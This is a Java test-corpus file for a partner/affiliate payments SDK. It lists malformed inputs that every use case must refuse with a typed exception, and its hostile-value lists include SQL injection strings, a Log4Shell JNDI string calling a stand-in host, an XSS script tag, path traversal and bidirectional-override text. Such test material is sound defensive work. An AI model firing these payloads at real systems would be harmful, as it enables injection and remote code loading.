package org.partnerprogram.testkit.hostile;

import java.math.BigDecimal;
import java.math.RoundingMode;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Collection;
import java.util.Currency;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Function;
import org.partnerprogram.core.PartnerProgram;
import org.partnerprogram.core.domain.Act;
import org.partnerprogram.core.domain.CustomerAccountId;
import org.partnerprogram.core.domain.EventId;
import org.partnerprogram.core.domain.Iban;
import org.partnerprogram.core.domain.Money;
import org.partnerprogram.core.domain.Order;
import org.partnerprogram.core.domain.OrderId;
import org.partnerprogram.core.domain.OrderLine;
import org.partnerprogram.core.domain.PartnerId;
import org.partnerprogram.core.domain.PartnerProgramException;
import org.partnerprogram.core.domain.PartnerStatus;
import org.partnerprogram.core.domain.PayoutAccount;
import org.partnerprogram.core.domain.PayoutId;
import org.partnerprogram.core.domain.ProductGroupId;
import org.partnerprogram.core.domain.ProductId;
import org.partnerprogram.core.domain.Rate;
import org.partnerprogram.core.domain.RateTarget;
import org.partnerprogram.core.domain.ReferralCode;
import org.partnerprogram.core.domain.RetryableException;
import org.partnerprogram.core.domain.StorageException;
import org.partnerprogram.core.export.PainVersion;
import org.partnerprogram.core.export.SepaDebtor;
import org.partnerprogram.core.port.in.AdjustCommand;
import org.partnerprogram.core.port.in.AttributeSignupCommand;
import org.partnerprogram.core.port.in.AuditQuery;
import org.partnerprogram.core.port.in.EnrollPartnerCommand;
import org.partnerprogram.core.port.in.ExportPayoutsCommand;
import org.partnerprogram.core.port.in.MonthPayoutsQuery;
import org.partnerprogram.core.port.in.PagePosition;
import org.partnerprogram.core.port.in.PartnerListQuery;
import org.partnerprogram.core.port.in.RateChange;
import org.partnerprogram.core.port.in.ReattributeCommand;
import org.partnerprogram.core.port.in.RecordOrderCommand;
import org.partnerprogram.core.port.in.RecordPaymentCommand;
import org.partnerprogram.core.port.in.RecordRefundCommand;
import org.partnerprogram.core.port.in.RecordTouchCommand;
import org.partnerprogram.core.port.in.StatementQuery;
import org.partnerprogram.core.port.in.WriteOffCommand;
import org.partnerprogram.testkit.Acts;

/**
 * At least 200 malformed inputs across every use case. Each case is the whole call, command
 * construction included: it must end in a typed {@link PartnerProgramException} (never a storage
 * failure, never a JDK exception) or, for a query about something unknown, in an empty answer.
 * Shared by the in-memory run in partner-core and the database runs in partner-jdbc-adapter.
 *
 * <p>Longer than 500 lines on purpose: it is a corpus, one entry per hostile input of every
 * command, and reads best as one list.
 */
// Passing null where an Optional is expected is one of the hostile inputs.
@SuppressWarnings("NullOptional")
public final class HostileCorpus {
  private static final Currency EUR = Currency.getInstance("EUR");

  private HostileCorpus() {}

  /** What a case must end in. */
  public enum Expect {
    /** A typed refusal: a {@link PartnerProgramException} that is not a storage failure. */
    REFUSED,
    /** A query about something unknown: an empty answer (or a typed refusal). */
    EMPTY
  }

  /** The whole call under test. */
  @FunctionalInterface
  public interface Call {
    /**
     * Makes the call.
     *
     * @return what it returned
     */
    Object run();
  }

  /** One named hostile input. */
  public record Case(String useCase, String name, Expect expect, Call call) {
    @Override
    public String toString() {
      return useCase + ": " + name;
    }
  }

  // ------------------------------------------------------------------ hostile values

  /** Strings aimed at SQL, logs, terminals and parsers. */
  public static final List<String> NASTY =
      List.of(
          "' OR 1=1 --",
          "\"; DROP TABLE pp_partner; --",
          "'; DELETE FROM pp_ledger_entry; --",
          "x' UNION SELECT iban FROM pp_partner --",
          "Robert'); DROP TABLE pp_payout;--",
          "\\",
          "back\\slash\\'",
          "%",
          "100%_off",
          "a%",
          "\u0000",
          "nul\u0000byte",
          "\u202Eevil",
          "rtl\u202Egnp.exe",
          "\u2066isolate\u2069",
          "zero\u200Bwidth",
          "\uFEFFbom",
          "\u200D",
          "line\nbreak",
          "tab\there",
          "\r\n",
          "",
          " ",
          "  padded ",
          "\uD800",
          "emoji\uD83D\uDE00",
          "caf\u00E9",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "\u2028sep",
          "x".repeat(65),
          "\u0130stanbul");

  /**
   * {@link #NASTY} without what a referral code legitimately normalises: {@code " padded "} is the
   * code PADDED by design (codes are trimmed and upper-cased).
   */
  public static final List<String> CODE_NASTY =
      NASTY.stream().filter(s -> !s.equals("  padded ")).toList();

  /**
   * Codes with letters outside ASCII that Java's upper-casing folds into ASCII letters (long s,
   * dotless i, sharp s, the fi ligature, the Kelvin sign): refused, never parsed as another code.
   */
  public static final List<String> FOLDING_CODES =
      List.of(
          "\u017Ftar-hosting",
          "jan-ho\u017Fting",
          "h\u0131ghway",
          "stra\u00DFe-hosting",
          "\uFB01sh-hosting",
          "\u212Aelvin-web");

  /** Free text that must be refused: blank, padded, controls, format characters, too long. */
  public static final List<String> BAD_FREE_TEXT =
      List.of(
          "",
          " ",
          "\t",
          " leading",
          "trailing ",
          "nul\u0000byte",
          "bell\u0007",
          "line\nbreak",
          "cr\rreturn",
          "rtl\u202Egnp.exe",
          "\u2066isolate\u2069",
          "zero\u200Bwidth",
          "joiner\u200Dx",
          "bom\uFEFF",
          "lone\uD800surrogate",
          "private\uE000use",
          "line\u2028separator",
          "para\u2029separator",
          "esc\u001B[31mred",
          "del\u007F");

  /**
   * Holder names a bank file cannot carry whole: letters of scripts without a transliteration into
   * the SEPA set, or no visible letter or digit at all.
   */
  public static final List<String> UNCARRIED_NAMES =
      List.of(
          "\u674E\u5C0F\u9F99",
          "\u0645\u062D\u0645\u062F \u0639\u0644\u064A",
          "\u05D3\u05D5\u05D3 \u05DB\u05D4\u05DF",
          "\uAE40\uBBFC\uC900",
          "Jan \u674E",
          "\u00A0",
          "\u2800",
          "\u3164",
          "\u115F\u1160",
          "\u0301\u0301",
          "\uD83D\uDE00",
          "...");

  /** IBANs that must be refused. */
  public static final List<String> BAD_IBANS =
      List.of(
          "",
          "   ",
          "NL",
          "NL91",
          "NL91ABNA041716430",
          "NL91ABNA04171643001",
          "NL92ABNA0417164300",
          "NL00ABNA0417164300",
          "XX91ABNA0417164300",
          "US91ABNA0417164300",
          "NLAAABNA0417164300",
          "NL91ABNA04171643\u00D8",
          "NL91-ABNA-0417-1643-00",
          "NL91ABNA0417164300' OR 1=1",
          "NL91ABNA0417\u202E164300",
          "DE89370400440532013001",
          "GB82WEST1234569876543",
          "1234567890",
          "x".repeat(65),
          "NL99ABNA0417164350",
          "NL01ABNA0417164368",
          "NL00ABNA0417164386",
          "NL5312340417164300",
          "NL15ABNA041716430X",
          "DE6337040044053201300X",
          "IT2500542811101000000123456",
          "GB321WBK60161331926819");

  /**
   * Valid IBANs that a SEPA credit transfer does not reach: refused as payout accounts with the
   * default (SEPA) payout rail.
   */
  public static final List<String> NON_SEPA_IBANS =
      List.of(
          "BR1800360305000010009795493C1",
          "SA0380000000608010167519",
          "PK36SCBL0000001123456702",
          "TR330006100519786457841326",
          "AE070331234567890123456",
          "UA213223130000026007233566001",
          "RU0304452522540817810538091310419",
          "FO6264600001631634",
          "GL8964710001000206");

  /** Instants outside what the SDK stores. */
  public static final List<Instant> BAD_INSTANTS =
      List.of(
          Instant.MIN,
          Instant.MAX,
          Instant.parse("1969-12-31T23:59:59Z"),
          Instant.parse("1900-01-01T00:00:00Z"),
          Instant.parse("3000-01-01T00:00:00Z"),
          Instant.parse("9999-12-31T23:59:59Z"));

  /**
   * Instants the SDK could store but that have not happened yet by the world's clock ({@link
   * HostileWorld#NOW}): beyond the five minutes of clock skew, up to the last storable second.
   */
  public static final List<Instant> FUTURE_INSTANTS =
      List.of(
          HostileWorld.NOW.plusSeconds(301),
          HostileWorld.NOW.plus(java.time.Duration.ofDays(1)),
          Instant.parse("2999-12-31T23:59:59Z"));

  /** Amounts with a problem in EUR: wrong scale, too big, malformed. */
  public static final List<String> BAD_EUR_AMOUNTS =
      List.of("1.001", "0.0001", "1e3", "1,50", "", " 1.00", "NaN", "1000000000000000.00", "--1");

  /**
   * Numbers of a dozen characters (as a webhook's JSON carries them) whose exponent alone would
   * make a rescale cost a billion digits.
   */
  public static final List<String> HUGE_NUMBERS =
      List.of("1E+999999999", "-1E+999999999", "1E-999999999", "1E+2000000", "1E+2147483647");

  /** Currency codes that are not usable for money. */
  public static final List<String> BAD_CURRENCIES =
      List.of("XXX", "XAU", "EURO", "eur", "", "E", "EU\u0000", "'; --");

  // ------------------------------------------------------------------ the corpus

  /**
   * The corpus against a world.
   *
   * @param w the world; its ids are used where a case needs a known one
   * @return the cases, in a stable order
   */
  public static List<Case> cases(HostileWorld w) {
    List<Case> cases = new ArrayList<>();
    PartnerProgram p = w.program;
    PartnerId a = w.partnerA;
    PartnerId b = w.partnerB;
    PartnerId unknownPartner = PartnerId.of("p_nobodyxxxxxxxxxxxxxxxxxxxx");
    PayoutId unknownPayout = PayoutId.of("PO" + "0".repeat(24));
    PayoutId paid = w.paidPayout().payoutId();
    Instant now = HostileWorld.NOW;
    SepaDebtor debtor = SepaDebtor.of("Hosting B.V.", "NL91ABNA0417164300");

    // ---- enrol
    for (String s : NASTY) {
      add(
          cases,
          "enroll",
          "customer " + show(s),
          () -> p.partners().enroll(EnrollPartnerCommand.of(s)));
    }
    for (String iban : BAD_IBANS) {
      add(
          cases,
          "enroll",
          "iban " + show(iban),
          () ->
              p.partners()
                  .enroll(
                      EnrollPartnerCommand.of("cust-new-1")
                          .withPayoutAccount(PayoutAccount.of(iban, "Kim"))));
    }
    for (String iban : NON_SEPA_IBANS) {
      add(
          cases,
          "enroll",
          "iban outside SEPA " + show(iban),
          () ->
              p.partners()
                  .enroll(
                      EnrollPartnerCommand.of("cust-new-1")
                          .withPayoutAccount(PayoutAccount.of(iban, "Kim"))));
      add(
          cases,
          "updatePayoutAccount",
          "iban outside SEPA " + show(iban),
          () -> p.partners().updatePayoutAccount(a, PayoutAccount.of(iban, "Jan")));
    }
    for (String iban : BAD_IBANS.subList(BAD_IBANS.size() - 8, BAD_IBANS.size())) {
      add(
          cases,
          "updatePayoutAccount",
          "iban " + show(iban),
          () -> p.partners().updatePayoutAccount(a, PayoutAccount.of(iban, "Jan")));
    }
    for (String name : UNCARRIED_NAMES) {
      add(
          cases,
          "enroll",
          "holder a bank file cannot carry " + show(name),
          () ->
              p.partners()
                  .enroll(
                      EnrollPartnerCommand.of("cust-new-2")
                          .withPayoutAccount(PayoutAccount.of("NL91ABNA0417164300", name))));
      add(
          cases,
          "updatePayoutAccount",
          "holder a bank file cannot carry " + show(name),
          () -> p.partners().updatePayoutAccount(a, PayoutAccount.of("NL91ABNA0417164300", name)));
    }
    for (String name : BAD_FREE_TEXT) {
      add(
          cases,
          "enroll",
          "holder " + show(name),
          () ->
              p.partners()
                  .enroll(
                      EnrollPartnerCommand.of("cust-new-2")
                          .withPayoutAccount(PayoutAccount.of("NL91ABNA0417164300", name))));
    }
    add(
        cases,
        "enroll",
        "holder of 71 code points",
        () ->
            p.partners()
                .enroll(
                    EnrollPartnerCommand.of("cust-new-3")
                        .withPayoutAccount(
                            PayoutAccount.of("NL91ABNA0417164300", "\uD83D\uDE00".repeat(71)))));
    add(
        cases,
        "enroll",
        "holder null",
        () ->
            p.partners()
                .enroll(
                    EnrollPartnerCommand.of("cust-new-3")
                        .withPayoutAccount(PayoutAccount.of("NL91ABNA0417164300", null))));
    add(
        cases,
        "enroll",
        "iban null",
        () ->
            p.partners()
                .enroll(
                    EnrollPartnerCommand.of("cust-new-3")
                        .withPayoutAccount(PayoutAccount.of(null, "Kim"))));
    add(
        cases,
        "enroll",
        "Iban record null",
        () ->
            p.partners()
                .enroll(
                    EnrollPartnerCommand.of("cust-new-3")
                        .withPayoutAccount(new PayoutAccount(null, "Kim"))));
    add(
        cases,
        "enroll",
        "customer null",
        () -> p.partners().enroll(EnrollPartnerCommand.of((String) null)));
    add(
        cases,
        "enroll",
        "customer account null",
        () -> p.partners().enroll(EnrollPartnerCommand.of((CustomerAccountId) null)));
    add(cases, "enroll", "command null", () -> p.partners().enroll(null));
    add(
        cases,
        "enroll",
        "payout account null",
        () -> p.partners().enroll(EnrollPartnerCommand.of("cust-new-3").withPayoutAccount(null)));
    add(
        cases,
        "enroll",
        "payout account strings null",
        () ->
            p.partners()
                .enroll(EnrollPartnerCommand.of("cust-new-3").withPayoutAccount(null, null)));
    add(
        cases,
        "enroll",
        "lower-case Iban record",
        () ->
            p.partners()
                .enroll(
                    EnrollPartnerCommand.of("cust-new-3")
                        .withPayoutAccount(
                            new PayoutAccount(new Iban("nl91abna0417164300"), "Kim"))));

    // ---- update payout account
    for (String iban : BAD_IBANS.subList(0, 10)) {
      add(
          cases,
          "updatePayoutAccount",
          "iban " + show(iban),
          () -> p.partners().updatePayoutAccount(a, PayoutAccount.of(iban, "Jan")));
    }
    for (String name : BAD_FREE_TEXT.subList(0, 12)) {
      add(
          cases,
          "updatePayoutAccount",
          "holder " + show(name),
          () -> p.partners().updatePayoutAccount(a, PayoutAccount.of("NL91ABNA0417164300", name)));
    }
    add(
        cases,
        "updatePayoutAccount",
        "unknown partner",
        () ->
            p.partners()
                .updatePayoutAccount(
                    unknownPartner, PayoutAccount.of("NL91ABNA0417164300", "Jan")));
    add(
        cases,
        "updatePayoutAccount",
        "partner id with LIKE wildcards",
        () ->
            p.partners()
                .updatePayoutAccount(
                    PartnerId.of("p____________________________"),
                    PayoutAccount.of("NL91ABNA0417164300", "Jan")));
    add(
        cases,
        "updatePayoutAccount",
        "account null",
        () -> p.partners().updatePayoutAccount(a, null));
    add(
        cases,
        "updatePayoutAccount",
        "partner null",
        () ->
            p.partners().updatePayoutAccount(null, PayoutAccount.of("NL91ABNA0417164300", "Jan")));
    for (String s : NASTY.subList(0, 12)) {
      add(
          cases,
          "updatePayoutAccount",
          "partner id " + show(s),
          () ->
              p.partners()
                  .updatePayoutAccount(
                      PartnerId.of(s), PayoutAccount.of("NL91ABNA0417164300", "Jan")));
    }

    // ---- suspend, reinstate, leave
    for (String reason : BAD_FREE_TEXT) {
      add(
          cases,
          "suspend",
          "reason " + show(reason),
          () -> p.partners().suspend(b, Acts.because(reason)));
    }
    add(
        cases,
        "suspend",
        "reason of 201 characters",
        () -> p.partners().suspend(b, Acts.because("r".repeat(201))));
    add(cases, "suspend", "reason null", () -> p.partners().suspend(b, Acts.because(null)));
    add(cases, "suspend", "partner null", () -> p.partners().suspend(null, Acts.because("fraud")));
    add(
        cases,
        "suspend",
        "unknown partner",
        () -> p.partners().suspend(unknownPartner, Acts.because("fraud")));
    add(
        cases,
        "suspend",
        "partner id 41 characters",
        () -> p.partners().suspend(PartnerId.of("p".repeat(41)), Acts.because("fraud")));
    add(
        cases,
        "suspend",
        "partner id with quote",
        () -> p.partners().suspend(PartnerId.of("p_x' OR '1'='1"), Acts.because("fraud")));
    add(
        cases,
        "reinstate",
        "a partner that is not suspended",
        () -> p.partners().reinstate(a, Acts.TEST));
    add(
        cases,
        "reinstate",
        "unknown partner",
        () -> p.partners().reinstate(unknownPartner, Acts.TEST));
    add(cases, "reinstate", "partner null", () -> p.partners().reinstate(null, Acts.TEST));
    add(cases, "leave", "unknown partner", () -> p.partners().leave(unknownPartner));
    add(cases, "leave", "partner null", () -> p.partners().leave(null));

    // ---- issue a vanity code
    List<String> badCodes = new ArrayList<>(CODE_NASTY);
    badCodes.addAll(
        List.of(
            "ab",
            "abc",
            "a".repeat(33),
            "-lead",
            "trail-",
            "dou--ble",
            "admin",
            "null",
            "\uFF21\uFF22\uFF23\uFF24",
            "\u00C4BCD",
            "jan_hosting",
            "jan.hosting",
            "jan hosting",
            "ADM1N",
            "adm1n",
            "R00T",
            "SUPP0RT",
            "L0G1N",
            "H3LP",
            "5Y5T3M",
            "P4RTN3R5"));
    badCodes.addAll(FOLDING_CODES);
    for (String code : badCodes) {
      add(
          cases,
          "issueVanityCode",
          "code " + show(code),
          () -> p.referrals().issueVanityCode(b, code));
    }
    add(
        cases,
        "issueVanityCode",
        "code taken by another partner",
        () -> p.referrals().issueVanityCode(b, "jan-hosting"));
    add(cases, "issueVanityCode", "code null", () -> p.referrals().issueVanityCode(b, null));
    add(
        cases,
        "issueVanityCode",
        "reserved code built directly",
        () -> p.referrals().issueVanityCode(b, "ADMIN"));
    add(cases, "issueVanityCode", "code null", () -> p.referrals().issueVanityCode(b, null));
    add(
        cases,
        "issueVanityCode",
        "unknown partner",
        () -> p.referrals().issueVanityCode(unknownPartner, "brand-new"));
    add(cases, "issueVanityCode", "partner null", () -> p.referrals().issueCode(null));

    // ---- revoke
    for (String code : NASTY.subList(0, 12)) {
      add(
          cases,
          "revoke",
          "code " + show(code),
          () -> p.referrals().revokeCode(ReferralCode.parse(code)));
    }
    add(
        cases,
        "revoke",
        "unknown code",
        () -> p.referrals().revokeCode(ReferralCode.parse("ZZZZ-NOPE")));
    add(cases, "revoke", "code null", () -> p.referrals().revokeCode((String) null));
    add(cases, "revoke", "referral code null", () -> p.referrals().revokeCode((ReferralCode) null));
    add(
        cases,
        "revoke",
        "lower-case code built directly",
        () -> p.referrals().revokeCode(new ReferralCode("jan-hosting")));

    // ---- add a rate version
    for (String percent :
        List.of("-1", "101", "100.00001", "12.12345", "abc", "1e2", "", " 5", "5%", "1'0")) {
      add(
          cases,
          "addRateVersion",
          "percent " + show(percent),
          () ->
              p.rates()
                  .change(
                      RateChange.programmeWide(Acts.TEST)
                          .setAll(Map.of(RateTarget.group("vps"), Rate.percent(percent)))));
    }
    add(
        cases,
        "addRateVersion",
        "percent null",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(Map.of(RateTarget.group("vps"), Rate.percent(null)))));
    add(
        cases,
        "addRateVersion",
        "percentage of -0.5 built directly",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(
                            Map.of(
                                RateTarget.group("vps"),
                                new Rate.Percentage(new BigDecimal("-0.5"))))));
    add(
        cases,
        "addRateVersion",
        "negative fixed amount",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(
                            Map.of(
                                RateTarget.group("vps"), Rate.fixed(Money.of("-1.00", "EUR"))))));
    add(
        cases,
        "addRateVersion",
        "fixed amount null",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(Map.of(RateTarget.group("vps"), Rate.fixed(null)))));
    add(
        cases,
        "addRateVersion",
        "fixed amount in JPY with decimals",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(
                            Map.of(RateTarget.group("vps"), Rate.fixed(Money.of("1.5", "JPY"))))));
    for (String s : NASTY.subList(0, 14)) {
      add(
          cases,
          "addRateVersion",
          "target id " + show(s),
          () ->
              p.rates()
                  .change(
                      RateChange.programmeWide(Acts.TEST)
                          .setAll(Map.of(RateTarget.group(s), Rate.percent("10")))));
    }
    add(
        cases,
        "addRateVersion",
        "target kind null",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(Map.of(new RateTarget(null, "vps"), Rate.percent("10")))));
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "addRateVersion",
          "effective from " + at,
          () ->
              p.rates()
                  .change(
                      RateChange.programmeWide(Acts.TEST)
                          .setAll(Map.of(RateTarget.group("vps"), Rate.percent("10")))
                          .from(at)));
    }
    add(
        cases,
        "addRateVersion",
        "effective from null",
        () ->
            p.rates()
                .change(
                    RateChange.programmeWide(Acts.TEST)
                        .setAll(Map.of(RateTarget.group("vps"), Rate.percent("10")))
                        .from(null)));
    add(
        cases,
        "addRateVersion",
        "override for an unknown partner",
        () ->
            p.rates()
                .change(
                    RateChange.forPartner(unknownPartner, Acts.TEST)
                        .setAll(Map.of(RateTarget.group("vps"), Rate.percent("10")))
                        .from(now)));
    add(
        cases,
        "addRateVersion",
        "override for partner null",
        () ->
            p.rates()
                .change(
                    RateChange.forPartner(null, Acts.TEST)
                        .setAll(Map.of(RateTarget.group("vps"), Rate.percent("10")))
                        .from(now)));
    add(
        cases,
        "addRateVersion",
        "rates null",
        () -> p.rates().change(RateChange.programmeWide(Acts.TEST).setAll(null)));
    Map<RateTarget, Rate> withNull = new HashMap<>();
    withNull.put(RateTarget.group("vps"), null);
    add(
        cases,
        "addRateVersion",
        "rates with a null value",
        () -> p.rates().change(RateChange.programmeWide(Acts.TEST).setAll(withNull)));
    Map<RateTarget, Rate> tooMany = new LinkedHashMap<>();
    for (int i = 0; i <= 1000; i++) {
      tooMany.put(RateTarget.product("prod-" + i), Rate.percent("1"));
    }
    add(
        cases,
        "addRateVersion",
        "1001 targets",
        () -> p.rates().change(RateChange.programmeWide(Acts.TEST).setAll(tooMany)));
    add(cases, "addRateVersion", "change null", () -> p.rates().change(null));
    add(
        cases,
        "addRateVersion",
        "a change that changes nothing",
        () -> p.rates().change(RateChange.programmeWide(Acts.TEST)));
    add(
        cases,
        "addRateVersion",
        "removing a product not on the card",
        () ->
            p.rates()
                .change(RateChange.programmeWide(Acts.TEST).remove(RateTarget.product("no-such"))));

    // ---- record a touch
    for (String code : CODE_NASTY) {
      add(
          cases,
          "recordTouch",
          "code " + show(code),
          () -> p.referrals().recordTouch(RecordTouchCommand.of(code, "v-1")));
    }
    for (String visitor : NASTY) {
      add(
          cases,
          "recordTouch",
          "visitor " + show(visitor),
          () -> p.referrals().recordTouch(RecordTouchCommand.of("jan-hosting", visitor)));
    }
    for (String path :
        List.of(
            "",
            "no-slash",
            "/x?ref=1",
            "/a b",
            "/caf\u00E9",
            "/" + "a".repeat(200),
            "/x';--",
            "/\u202E",
            "/%2e%2e/")) {
      add(
          cases,
          "recordTouch",
          "landing path " + show(path),
          () ->
              p.referrals()
                  .recordTouch(RecordTouchCommand.of("jan-hosting", "v-9").landingPath(path)));
    }
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "recordTouch",
          "at " + at,
          () -> p.referrals().recordTouch(RecordTouchCommand.of("jan-hosting", "v-9").at(at)));
    }
    for (String code : FOLDING_CODES) {
      add(
          cases,
          "recordTouch",
          "folding code " + show(code),
          () -> p.referrals().recordTouch(RecordTouchCommand.of(code, "v-9")));
      add(
          cases,
          "revoke",
          "folding code " + show(code),
          () -> p.referrals().revokeCode(ReferralCode.parse(code)));
    }
    for (Instant at : FUTURE_INSTANTS) {
      add(
          cases,
          "recordTouch",
          "clicked in the future at " + at,
          () -> p.referrals().recordTouch(RecordTouchCommand.of("jan-hosting", "v-9").at(at)));
      add(
          cases,
          "attributeSignup",
          "signed up in the future at " + at,
          () ->
              p.referrals()
                  .attributeSignup(
                      AttributeSignupCommand.newCustomer("c-new-9").visitor("v-9").at(at)));
    }
    add(
        cases,
        "recordTouch",
        "code null",
        () -> p.referrals().recordTouch(RecordTouchCommand.of(null, "v-9")));
    add(
        cases,
        "recordTouch",
        "visitor null",
        () -> p.referrals().recordTouch(RecordTouchCommand.of("jan-hosting", null)));
    add(cases, "recordTouch", "command null", () -> p.referrals().recordTouch(null));
    add(
        cases,
        "recordTouch",
        "click time null",
        () -> p.referrals().recordTouch(RecordTouchCommand.of("jan-hosting", "v-9").at(null)));
    add(
        cases,
        "recordTouch",
        "code of 49 characters",
        () -> p.referrals().recordTouch(RecordTouchCommand.of("A".repeat(49), "v-9")));

    // ---- attribute a signup
    for (String s : NASTY.subList(0, 16)) {
      add(
          cases,
          "attributeSignup",
          "customer " + show(s),
          () ->
              p.referrals()
                  .attributeSignup(AttributeSignupCommand.newCustomer(s).visitor("v-9").at(now)));
      add(
          cases,
          "attributeSignup",
          "visitor " + show(s),
          () ->
              p.referrals()
                  .attributeSignup(
                      AttributeSignupCommand.newCustomer("c-new-9").visitor(s).at(now)));
    }
    for (Instant at : BAD_INSTANTS) {
      add(
          cases,
          "attributeSignup",
          "signup at " + at,
          () ->
              p.referrals()
                  .attributeSignup(
                      AttributeSignupCommand.newCustomer("c-new-9").visitor("v-9").at(at)));
    }
    add(
        cases,
        "attributeSignup",
        "signup at null",
        () ->
            p.referrals()
                .attributeSignup(
                    AttributeSignupCommand.newCustomer("c-new-9").visitor("v-9").at(null)));
    add(
        cases,
        "attributeSignup",
        "customer null",
        () ->
            p.referrals()
                .attributeSignup(AttributeSignupCommand.newCustomer(null).visitor("v-9").at(now)));
    add(
        cases,
        "attributeSignup",
        "typed code with SQL",
        () ->
            p.referrals()
                .attributeSignup(
                    AttributeSignupCommand.newCustomer("c-new-9").typedCode("x' OR 1=1").at(now)));
    add(
        cases,
        "attributeSignup",
        "customer iban invalid",
        () ->
            p.referrals()
                .attributeSignup(
                    AttributeSignupCommand.newCustomer("c-new-9")
                        .at(now)
                        .iban("NL92ABNA0417164300")));
    add(cases, "attributeSignup", "command null", () -> p.referrals().attributeSignup(null));
    add(
        cases,
        "attributeSignup",
        "visitor null",
        () ->
            p.referrals()
                .attributeSignup(AttributeSignupCommand.newCustomer("c-new-9").visitor(null)));

    // ---- record an order
    CustomerAccountId ca = w.customerA;
    Function<OrderLine, Call> order1 =
        line ->
            () ->
                p.commissions()
                    .recordOrder(
                        new RecordOrderCommand(
                            EventId.of("order-o-new"),
                            new Order(OrderId.of("o-new"), ca, now, List.of(line))));
    for (String s : NASTY.subList(0, 16)) {
      add(
          cases,
          "recordOrder",
          "order id " + show(s),
          () ->
              p.commissions()
                  .recordOrder(
                      new RecordOrderCommand(
                          EventId.of("order-x"),
                          new Order(
                              OrderId.of(s),
                              ca,
                              now,
                              List.of(OrderLine.of(1, "prod", eur("1.00")))))));
      add(
          cases,
          "recordOrder",
          "event id " + show(s),
          () ->
              p.commissions()
                  .recordOrder(
                      new RecordOrderCommand(
                          EventId.of(s),
                          new Order(
                              OrderId.of("o-new"),
                              ca,
                              now,
                              List.of(OrderLine.of(1, "prod", eur("1.00")))))));
      add(
          cases,
          "recordOrder",
          "product id " + show(s),
          () -> order1.apply(OrderLine.of(1, s, eur("1.00"))).run());
      add(
          cases,
          "recordOrder",
          "customer " + show(s),
          () ->
              p.commissions()
                  .recordOrder(
                      new RecordOrderCommand(
                          EventId.of("order-x"),
                          new Order(
                              OrderId.of("o-new"),
                              CustomerAccountId.of(s),
                              now,
                              List.of(OrderLine.of(1, "prod", eur("1.00")))))));
    }
    for (String d : BAD_FREE_TEXT) {
      add(
          cases,
          "recordOrder",
          "description " + show(d),
          () ->
              order1
                  .apply(
                      new OrderLine(
                          1, ProductId.of("prod"), Optional.empty(), eur("1.00"), Optional.of(d)))
                  .run());
    }
    add(
        cases,
        "recordOrder",
        "description of 201 characters",
        () ->
            order1
                .apply(
                    new OrderLine(
                        1,
                        ProductId.of("prod"),
                        Optional.empty(),
                        eur("1.00"),
                        Optional.of("d".repeat(201))))
                .run());
    add(
        cases,
        "recordOrder",
        "group with SQL",
        () ->
            order1
                .apply(
                    new OrderLine(
                        1,
                        ProductId.of("prod"),
                        Optional.of(ProductGroupId.of("vps' --")),
                        eur("1.00"),
                        Optional.empty()))
                .run());
    add(
        cases,
        "recordOrder",
        "group null via the factory",
        () -> order1.apply(OrderLine.of(1, "prod", null, eur("1.00"))).run());
    add(
        cases,
        "recordOrder",
        "negative net",
        () -> order1.apply(OrderLine.of(1, "prod", eur("-0.01"))).run());
    for (String amount : BAD_EUR_AMOUNTS) {
      add(
          cases,
          "recordOrder",
          "net " + show(amount) + " EUR",
          () -> order1.apply(OrderLine.of(1, "prod", eur(amount))).run());
    }
    add(
        cases,
        "recordOrder",
        "net 1.5 JPY",
        () -> order1.apply(OrderLine.of(1, "prod", Money.of("1.5", "JPY"))).run());
    add(
        cases,
        "recordOrder",
        "net 1.001 EUR as BigDecimal",
        () ->
            order1
                .apply(
                    OrderLine.of(
                        1, "prod", Money.of(new BigDecimal("1.001"), Currency.getInstance("EUR"))))
                .run());
    for (String number : HUGE_NUMBERS) {
      BigDecimal huge = new BigDecimal(number);
      add(
          cases,
          "recordOrder",
          "net " + number + " EUR as BigDecimal",
          () -> order1.apply(OrderLine.of(1, "prod", Money.of(huge, EUR))).run());
      add(
          cases,
          "recordOrder",
          "net " + number + " EUR rounded HALF_UP",
          () ->
              order1
                  .apply(OrderLine.of(1, "prod", Money.of(huge, EUR, RoundingMode.HALF_UP)))
                  .run());
      add(
          cases,
          "recordRefund",
          "amount " + number + " EUR rounded DOWN",
          () ->
              p.commissions()
                  .recordRefund(
                      RecordRefundCommand.wholeOrder(
                          EventId.of("r-new"),
                          OrderId.of("o-h1"),
                          now,
                          Money.of(huge, EUR, RoundingMode.DOWN))));
      add(
          cases,
          "addRateVersion",
          "percentage " + number + " built directly",
          () ->
              p.rates()
                  .change(
                      RateChange.programmeWide(Acts.TEST)
                          .setAll(Map.of(RateTarget.group("vps"), new Rate.Percentage(huge)))));
      add(
          cases,
          "addRateVersion",
          "fixed amount of 1.00 EUR times " + number,
          () ->
              p.rates()
                  .change(
                      RateChange.programmeWide(Acts.TEST)
                          .setAll(
                              Map.of(
                                  RateTarget.group("vps"),
                                  Rate.fixed(
                                      eur("1.00").multipliedBy(huge, RoundingMode.HALF_UP))))));
    }
    add(
        cases,
        "recordOrder",
        "net amount null",
        () ->
            order1
                .apply(
                    OrderLine.of(
                        1, "prod", Money.of((BigDecimal) null, Currency.getInstance("EUR"))))
                .run());
    add(
        cases,
        "recordOrder",
        "net currency null",
        () ->
            order1.apply(OrderLine.of(1, "prod", Money.of(BigDecimal.ONE, (Currency) null))).run());
    for (String currency : BAD_CURRENCIES) {
      add(
          cases,
          "recordOrder",
          "currency " + show(currency),
          () -> order1.apply(OrderLine.of(1, "prod", Money.of("1.00", currency))).run());
    }
    add(
        cases,
        "recordOrder",
        "currency null",
        () -> order1.apply(OrderLine.of(1, "prod", Money.of("1.00", null))).run());
    add(
        cases,
